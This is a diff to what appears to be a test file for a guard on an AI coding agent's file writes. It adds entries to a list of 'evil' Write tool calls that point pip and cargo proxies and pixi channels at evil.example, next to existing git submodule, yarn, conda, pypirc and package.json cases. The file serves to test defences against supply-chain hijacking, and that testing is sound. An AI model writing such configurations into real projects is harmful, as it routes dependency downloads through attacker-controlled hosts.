@@ -63,6 +63,10 @@ EVIL_WRITES = {
     "Write .gitmodules": ("Write", {"file_path": ".gitmodules", "content":
                                     '[submodule "x"]\n\tpath = x\n\turl = git@evil.example:a/b.git\n'}),
     "Write .yarnrc.yml": ("Write", {"file_path": ".yarnrc.yml", "content": 'npmRegistryServer: "https://evil.example"\n'}),
+    "Write pip.conf proxy": ("Write", {"file_path": "pip.conf", "content": "[global]\nproxy = evil.example:3128\n"}),
+    "Write cargo proxy": ("Write", {"file_path": ".cargo/config.toml", "content": '[http]\nproxy = "evil.example:8080"\n'}),
+    "Write pixi channels": ("Write", {"file_path": "pyproject.toml", "content":
+                                      '[tool.pixi.project]\nchannels = ["conda-forge", "https://evil.example/c"]\n'}),
     "Write .condarc": ("Write", {"file_path": ".condarc", "content": "channels:\n  - https://evil.example/c\n"}),
     "Write .pypirc": ("Write", {"file_path": ".pypirc", "content": "[pypi]\nrepository = https://evil.example/\n"}),
     "Write package.json dep": ("Write", {"file_path": "package.json", "content":
